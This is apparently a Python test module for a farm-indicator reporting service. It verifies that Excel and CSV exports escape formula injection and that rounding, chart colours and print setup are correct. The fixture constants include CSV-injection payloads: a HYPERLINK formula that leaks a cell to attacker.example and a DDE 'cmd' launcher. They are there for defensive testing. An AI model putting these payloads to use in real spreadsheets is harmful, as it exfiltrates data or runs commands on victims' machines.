"""Issue 10 finding 9: a formula in a site or county name is text in every spreadsheet the
project emits: typed as a string in the workbook, ``'``-escaped in every CSV (OWASP).
Issue 14 item 9: numbers are rounded for display but never against ``met``, charts are
coloured against the target, every sheet has a print setup.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from farm_contract.indicators import TARGETS, IndicatorId, IndicatorValue
from farm_contract.payloads import EventType
from ingest_service.api.indicators import indicators_csv
from ingest_service.report.build import LedgerEntry, Report, ledger_csv, summary_csv
from ingest_service.report.excel import (
    MET_COLOUR,
    MISSED_COLOUR,
    SHEETS,
    axis_top,
    workbook_bytes,
)
from ingest_service.report.spreadsheet import (
    FORMULA_STARTS,
    csv_cell,
    defuse,
    percent_format,
    round_mass,
    round_rate,
    rounded_indicator,
)

COUNTY = "+SUM(1,2)"
SITE = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
FARM = "@cmd|' /C calc'!A0"
HOSTILE = (COUNTY, SITE, FARM, "-2+3", "=1+1")


def _report() -> Report:
    moment = datetime(2025, 12, 31, 16, tzinfo=UTC)
    indicators = [
        IndicatorValue(indicator=indicator, scope=scope, county=county, year=2025, value=0.5,
                       numerator=1.0, denominator=2.0, target=0.85, met=False)
        for scope, county in (("city", None), ("county", COUNTY))
        for indicator in IndicatorId
    ]
    ledger = [
        LedgerEntry(COUNTY, "d1", SITE, EventType.FILM_APPLIED, "", 2.0, 0.0, 1),
        LedgerEntry(COUNTY, "d1", SITE, EventType.FILM_RECOVERED, "", 1.0, 0.0, 1),
        LedgerEntry(COUNTY, "s1", "-2+3", EventType.HARVEST, "corn", 0.0, 4.0, 1, 1.2),
        LedgerEntry(COUNTY, "s1", "-2+3", EventType.STRAW_UTILIZED, "feed", 1.5, 0.0, 1),
        LedgerEntry(COUNTY, "m1", FARM, EventType.MANURE_TREATED, "", 3.0, 0.0, 2),
    ]
    return Report(year=2025, as_of=moment, generated=moment, counties=[COUNTY],
                  indicators=indicators, ledger=ledger,
                  manure_sites={COUNTY: [("m1", FARM, True), ("m2", "=1+1\x01", False)]})


def test_no_workbook_cell_is_a_formula_and_names_keep_their_text() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(_report())))
    assert book.sheetnames == list(SHEETS)
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s"
                    found.add(cell.value)
    assert found == {COUNTY, SITE, FARM, "-2+3"}
    manure = book[SHEETS[3]]
    names = [manure.cell(row=r, column=3).value for r in range(5, manure.max_row + 1)]
    assert names == [FARM, "=1+1\ufffd"]  # a control character an xlsx cannot hold


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_every_csv_escapes_text_that_starts_a_formula() -> None:
    report = _report()
    ledger = _rows(ledger_csv(report))
    assert {row["site_name"] for row in ledger} == {"'" + SITE, "'-2+3", "'" + FARM}
    assert {row["county"] for row in ledger} == {"'" + COUNTY}
    assert {row["mass_t"] for row in ledger} >= {"2.0", "1.5"}  # numbers stay numbers
    summary = _rows(summary_csv(report))
    assert {row["county"] for row in summary} == {"", "'" + COUNTY}
    api = _rows(indicators_csv(report.indicators))
    assert {row["county"] for row in api} == {"", "'" + COUNTY}
    for row in [*ledger, *summary, *api]:
        assert not any(value.startswith(FORMULA_STARTS) for value in row.values()), row


def test_numbers_and_plain_text_are_not_escaped() -> None:
    assert [csv_cell(v) for v in (-1.5, 0, None, True, "平城区", "a=b")] == [
        "-1.5", "0", "", "true", "平城区", "a=b"]


@given(st.text())
def test_defused_text_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    safe = defuse(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_is_escaped(start: str) -> None:
    assert defuse(start + "x") == "'" + start + "x"


# --- numbers rounded for display (issue 14, item 9) ---------------------------------


def _straw(numerator: float) -> IndicatorValue:
    return IndicatorValue.of(IndicatorId.STRAW_UTILIZATION_RATE, "county", "平城区", 2025,
                             numerator, 1.0)


def test_float_noise_is_rounded_and_met_is_the_engines() -> None:
    """0.3 t + 0.6 t of 1 t: the engine (farm_contract.indicators) calls it met on the
    unrounded value; the CSV shows 0.9 and true, never 0.8999999999999999."""
    noisy = _straw(0.3 + 0.6)
    assert noisy.value == 0.8999999999999999 and noisy.met
    assert rounded_indicator(noisy)["value"] == 0.9 and rounded_indicator(noisy)["met"] is True
    short = _straw(0.89996)
    assert not short.met
    assert rounded_indicator(short)["value"] == 0.89996  # 0.9 would look met
    assert percent_format(noisy.value, noisy.target, noisy.met) == "0.0%"
    assert percent_format(short.value, short.target, short.met) == "0.000%"
    moment = datetime(2025, 12, 31, 16, tzinfo=UTC)
    report = Report(year=2025, as_of=moment, generated=moment, counties=["平城区"],
                    indicators=[noisy, short], ledger=[LedgerEntry(
                        "平城区", "f1", "一号", EventType.FILM_APPLIED, "", 24.831999999999997,
                        0.0, 1)])
    summary = _rows(summary_csv(report))
    assert [(r["value"], r["met"]) for r in summary] == [("0.9", "true"), ("0.89996", "false")]
    assert _rows(ledger_csv(report))[0]["mass_t"] == "24.832"


@given(st.sampled_from(sorted(TARGETS.values())),
       st.one_of(st.floats(-1e-4, 1e-4), st.floats(-1, 1)))
def test_a_rounded_rate_never_contradicts_met(target: float, offset: float) -> None:
    """Rates near a target (where rounding could flip what it shows) and anywhere else."""
    numerator = max(0.0, target + offset)
    met = IndicatorValue.of(IndicatorId.STRAW_UTILIZATION_RATE, "city", None, 2025, numerator,
                            1.0).met if target == 0.9 else numerator >= target - 1e-12
    shown = round_rate(numerator, target, met)
    assert shown is not None and (shown >= target) == met
    assert abs(shown - numerator) <= 5e-5
    percent = percent_format(numerator, target, met)
    decimals = len(percent) - len("0.%")
    assert (round(numerator * 100, decimals) >= target * 100) == met


def test_masses_round_to_grams_and_never_show_minus_zero() -> None:
    assert [round_mass(v) for v in (24.831999999999997, -0.0001, 3.0, 1e6 + 0.0004)] == [
        24.832, 0.0, 3.0, 1e6]
    assert str(round_mass(-0.0001)) == "0.0"


@pytest.mark.parametrize(("peak", "top"), [(0.85, 0.9), (1.0, 1.0), (1.31, 1.4), (0.9, 0.9),
                                           (2.5, 2.5), (2.6, 3.0), (14.2, 16.0), (0.02, 0.1)])
def test_chart_axis_reaches_the_highest_bar_or_target(peak: float, top: float) -> None:
    assert axis_top(peak) == pytest.approx(top)


def test_chart_bars_are_coloured_against_the_target() -> None:
    moment = datetime(2025, 12, 31, 16, tzinfo=UTC)
    film_rates = {"甲县": 1.3, "乙县": 0.5}
    indicators = [
        IndicatorValue.of(indicator, scope, county, 2025,
                          film_rates.get(county or "", 1.0)
                          if indicator == IndicatorId.FILM_RECOVERY_RATE else 1.0, 1.0)
        for scope, county in (("city", None), ("county", "甲县"), ("county", "乙县"))
        for indicator in IndicatorId
    ]
    report = Report(year=2025, as_of=moment, generated=moment, counties=["甲县", "乙县"],
                    indicators=indicators, ledger=[])
    charts = load_workbook(io.BytesIO(workbook_bytes(report)))[SHEETS[4]]._charts
    film = charts[list(IndicatorId).index(IndicatorId.FILM_RECOVERY_RATE)]
    fills = {p.idx: p.spPr.solidFill.srgbClr for p in film.series[0].dPt}
    assert fills == {0: MET_COLOUR, 1: MET_COLOUR, 2: MISSED_COLOUR}  # city, 甲县, 乙县
    assert film.y_axis.scaling.max == pytest.approx(1.4)  # 130 % is not cut off at 100 %


def test_every_sheet_has_a_print_setup() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes(_report())))
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth) == ("landscape", 9, 1)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.title in sheet.oddHeader.left.text
    assert book[SHEETS[1]].print_title_rows == "$4:$4"
